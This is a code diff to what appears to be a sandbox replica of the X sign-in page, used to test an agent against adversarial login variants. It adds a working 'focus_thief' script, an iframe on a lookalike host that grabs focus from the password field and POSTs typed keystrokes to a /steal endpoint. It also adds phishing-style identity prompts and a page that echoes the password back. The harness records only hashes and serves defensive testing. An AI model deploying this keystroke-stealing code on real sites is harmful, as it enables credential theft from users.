@@ -18,6 +18,7 @@ import secrets
 from urllib.parse import quote, urlsplit
 
 from optout.sandbox import Replica, Request, Response, page, redirect
+from optout.sandbox.replica import digest
 
 LOGIN_PATH = "/i/flow/login"
 TASK_PATH = "/i/api/1.1/onboarding/task.json"
@@ -44,6 +45,22 @@ MUTATIONS = {
     "memory": ("GrokMemorySettingsMutation", "allowGrokMemory"),
 }
 IDENTIFIER_HEADING = "Enter your phone number or username"
+#: focus_thief: a cross-origin frame on the sign-in page that takes the keyboard focus whenever the
+#: password field gets it, and sends whatever is typed there to its own server.
+CATCHER_PATH, STEAL_PATH = "/catcher", "/steal"
+CATCHER = '<input id="keys" aria-label="keys">'
+CATCHER_SCRIPT = """
+const keys = document.getElementById('keys');
+window.addEventListener('focus', () => keys.focus());
+keys.addEventListener('input', () => fetch('/steal', {method: 'POST', headers: {'content-type': 'application/json'},
+  body: JSON.stringify({value: keys.value})}));"""
+THIEF = f"""
+  const thief = document.createElement('iframe');
+  thief.src = 'https://{LOOKALIKE_HOST}{CATCHER_PATH}';
+  thief.title = 'Security';
+  root.appendChild(thief);
+  const pw = root.querySelector('input[type=password]');
+  if (pw) pw.addEventListener('focus', () => {{ thief.focus(); thief.contentWindow.focus(); }});"""
 
 
 class X(Replica):
@@ -56,6 +73,12 @@ class X(Replica):
 
     def handle(self, req: Request) -> Response:
         if urlsplit(req.url).hostname == LOOKALIKE_HOST:
+            if req.path == CATCHER_PATH:
+                return page(CATCHER, title="", script=CATCHER_SCRIPT)
+            if req.path == STEAL_PATH and req.method == "POST":
+                value = str((req.json or {}).get("value", "")) if isinstance(req.json, dict) else ""
+                self.event("stolen", sha256=digest(value), length=len(value))
+                return answer({})
             return self.login_app(lookalike=True)
         if req.path == LOGIN_PATH:
             if self.misbehaves("lookalike_login") and "redirect_after_login" not in req.query:
@@ -81,16 +104,21 @@ class X(Replica):
 
     def login_app(self, *, lookalike: bool = False) -> Response:
         task_url = f"https://{LOOKALIKE_HOST}/steal" if lookalike else TASK_PATH
+        heading, asked, label = IDENTIFIER_HEADING, "phone number or username", "Phone or username"
+        if self.misbehaves("identifier_email"):
+            heading, asked, label = "Verify your identity", "email address", "Email address"
+        elif self.misbehaves("identifier_phone_email"):
+            heading, asked, label = "Verify your identity", "phone number or email address", "Phone or email"
         views = {
             "username": """<h1 id="modal-header">Sign in to X</h1>
 <button type="button">Sign in with Apple</button>
 <label>Phone, email, or username <input name="text" type="text" autocomplete="username"></label>
 <button type="button" data-go="username">Next</button>
 <button type="button">Forgot password?</button>""",
-            "identifier": f"""<h1 id="modal-header">{IDENTIFIER_HEADING}</h1>
+            "identifier": f"""<h1 id="modal-header">{heading}</h1>
 <p>There was unusual login activity on your account. To help keep your account safe, please enter
-your phone number or username to verify it’s you.</p>
-<label>Phone or username <input name="text" type="text" data-testid="ocfEnterTextTextInput"></label>
+your {asked} to verify it’s you.</p>
+<label>{label} <input name="text" type="text" data-testid="ocfEnterTextTextInput"></label>
 <button type="button" data-go="identifier" data-testid="ocfEnterTextNextButton">Next</button>""",
             "password": """<h1 id="modal-header">Enter your password</h1>
 <label>Password <input name="password" type="password" autocomplete="current-password"></label>
@@ -106,11 +134,15 @@ your phone number or username to verify it’s you.</p>
         }
         script = f"""
 const VIEWS = {json.dumps(views)};
+const THIEF = {json.dumps(self.misbehaves("focus_thief"))};
+const SLOW = {json.dumps(["2fa"] if self.misbehaves("slow_verify") else [])};
 const root = document.getElementById('flow');
 let token = null;
 function show(step) {{
   root.innerHTML = VIEWS[step.subtask] +
-    (step.error ? '<div role="alert">' + step.error + '</div>' : '');
+    (step.error ? '<div role="alert">' + step.error + '</div>' : '') + (step.echo ? step.echo.html : '');
+  if (step.echo) root.querySelectorAll('input').forEach((i) => {{ i.setAttribute('value', step.echo.value); i.value = step.echo.value; }});
+  if (THIEF && step.subtask === 'password') {{ {THIEF if self.misbehaves("focus_thief") else ""} }}
   const input = root.querySelector('input');
   if (input) input.focus();
 }}
@@ -118,6 +150,7 @@ root.addEventListener('click', async (event) => {{
   const button = event.target.closest('button[data-go]');
   if (!button) return;
   const input = root.querySelector('input');
+  if (SLOW.includes(button.dataset.go)) await new Promise((done) => setTimeout(done, 500));
   const r = await fetch({json.dumps(task_url)}, {{method: 'POST', headers: {{'content-type': 'application/json'}},
     body: JSON.stringify({{flow_token: token, subtask: button.dataset.go, value: input ? input.value : ''}})}});
   const step = await r.json();
@@ -144,7 +177,8 @@ show({{subtask: 'username'}});"""
                 self.event("username", ok=False)
                 return answer({"subtask": "username", "error": "Sorry, we could not find your account."})
             token = secrets.token_urlsafe(12)
-            flows[token] = {"user": value, "stage": "identifier" if self.misbehaves("identifier_step") else "password"}
+            stage = "identifier" if self.asks_identifier() else "password"
+            flows[token] = {"user": value, "stage": "arkose" if self.misbehaves("captcha_early") else stage}
             self.sandbox.save()
             return answer({"flow_token": token, "subtask": flows[token]["stage"]})
         flow = flows.get(str(body.get("flow_token")))
@@ -159,6 +193,8 @@ show({{subtask: 'username'}});"""
             return self.advance(flows, body, "password")
         if subtask == "password":
             ok = self.check_password(user, value)
+            if not ok and self.misbehaves("echo_password"):
+                return answer({"subtask": "password", "echo": echo(value)})
             if not ok:
                 return answer({"subtask": "password", "error": "Wrong password!"})
             if self.misbehaves("checkpoint"):
@@ -172,6 +208,9 @@ show({{subtask: 'username'}});"""
                 return answer({"subtask": "2fa", "error": "Your code was incorrect. Please try again."})
             return self.done(flows, body, user)
         return answer({"subtask": "username", "error": "Something went wrong. Let’s try again."})
+
+    def asks_identifier(self) -> bool:
+        return any(self.misbehaves(m) for m in ("identifier_step", "identifier_email", "identifier_phone_email"))
 
     def advance(self, flows: dict, body: dict, stage: str) -> Response:
         flows[str(body["flow_token"])]["stage"] = stage
@@ -258,6 +297,18 @@ setTimeout(() => {{
             return Response(status=500, body='{"errors":[{"message":"Internal"}]}', content_type="application/json")
         return Response(body='{"data":{"user_preferences_put":{"__typename":"UserPreferences"}}}',
                         content_type="application/json")
+
+
+def echo(value: str) -> dict:
+    """echo_password: a failure page that shows the typed password back, in text, in an attribute,
+    in the page's JSON and in every input (the password field and a "shown" copy), without the
+    words the flow knows for a failure."""
+    data = json.dumps({"attempt": {"password": value}}).replace("</", "<\\/")
+    shown = html.escape(value, quote=True)
+    return {"value": value, "html": f"""<div role="alert" data-tried="{shown}">We could not sign you in with
+“{html.escape(value)}”. <a href="/i/flow/login?tried={quote(value, safe='')}">Try again</a></div>
+<input type="text" name="shown" value="{shown}" aria-label="Password shown">
+<script type="application/json" id="attempt">{data}</script>"""}
 
 
 def answer(data: dict, headers: dict[str, str] | None = None) -> Response:
